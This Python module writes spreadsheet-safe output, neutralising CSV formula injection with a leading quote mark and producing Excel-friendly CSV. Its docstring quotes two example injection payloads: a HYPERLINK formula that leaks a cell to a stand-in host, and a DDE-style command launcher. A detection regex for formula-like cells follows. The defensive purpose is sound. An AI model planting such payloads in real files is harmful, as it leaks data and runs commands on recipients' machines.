"""Output files that spreadsheets open safely and as they are: no formula injection, CSV for Excel.

Titles come from CVs and CRM exports, which anyone can write into: a cell such as
`=HYPERLINK("http://x.example/?"&A1,"Buyer")` or `@SUM(1+1)*cmd|' /C calc'!A0` copied verbatim into a CSV runs
as a formula in the Excel or LibreOffice of whoever opens it (CSV injection, OWASP). `PredictionWriter` writes
every such text cell with a leading `'`, the mark spreadsheets read as "text, not a formula" (an .xlsx cell, a
string already, gets the same mark as its style: its text unchanged). `--excel` writes a CSV that Excel opens as
it is in any locale: a UTF-8 byte-order mark (else Excel reads the file in its ANSI code page: umlauts as
mojibake) and the input's separator (a German Excel splits a row into cells at ';', not at ',').
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .readers import parse_delimiter

# A cell that a spreadsheet may run as a formula (OWASP's list): one that starts with =, +, -, @, a tab or a
# carriage return; =, +, - and @ also after leading spaces, which importers that trim cells (LibreOffice's "Trim
# spaces") drop.
FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@]")
TEXT_MARK = "'"
FORMULA_CHARACTERS = "=, +, -, @, a tab or a carriage return"


def formula_like(cell: str) -> bool:
    """Whether a spreadsheet may read this text cell as a formula (`FORMULA_START`)."""
    return FORMULA_START.match(cell) is not None


@dataclass(frozen=True)
class OutputOptions:
    """How the output's cells are written: `neutralise_formulas` (a leading ' before a formula-like text cell in
    CSV/TSV, the quote-prefix style in .xlsx; JSONL is written as read), `excel` (CSV/TSV with a UTF-8 byte-order
    mark and, for .csv, the input's separator) and `delimiter` (CSV/TSV's separator, None: the format's own, or
    the input's with `excel`)."""

    neutralise_formulas: bool = True
    excel: bool = False
    delimiter: str | None = None

    def table_dialect(self, output_format: str, input_delimiter: str | None) -> tuple[str, bool]:
        """(separator, byte-order mark) of a CSV/TSV output; `input_delimiter`: the input table's, None for an
        input that has none (JSONL, Excel, text, a one-column CSV)."""
        if self.delimiter is not None:
            delimiter = self.delimiter
        elif output_format == "tsv":
            delimiter = "\t"
        else:
            delimiter = (input_delimiter if self.excel else None) or ","
        return delimiter, self.excel


def parse_output_options(
    neutralise_formulas: bool = True, excel: bool = False, delimiter: str | None = None
) -> OutputOptions:
    """OutputOptions from the options as typed; ValueError naming --output-delimiter for a separator that cannot
    separate CSV cells (a quote, a line break)."""
    parsed = parse_delimiter(delimiter or None, option="--output-delimiter")
    if parsed is not None and parsed in '"\r\n':
        raise ValueError(f"--output-delimiter {delimiter!r}: a quote or a line break cannot separate columns")
    return OutputOptions(neutralise_formulas, excel, parsed)


def note_semicolons(
    notify: Callable[[str], None] | None,
    input_path: Path | str,
    output_path: Path | str,
    options: OutputOptions,
    input_delimiter: str | None,
) -> None:
    """Say so when a ';' input (a German Excel's CSV) is to come back as a ',' CSV, which that Excel shows with each
    row in one cell."""
    if notify is None or input_delimiter != ";" or Path(output_path).suffix.lower() != ".csv":
        return
    if options.table_dialect("csv", input_delimiter)[0] == ",":
        notify(
            f"{input_path} is separated by ';' (as a German Excel saves CSV), {output_path} will be by ',', which such "
            "an Excel shows as one column: --excel writes ';' and a byte-order mark (umlauts intact)"
        )
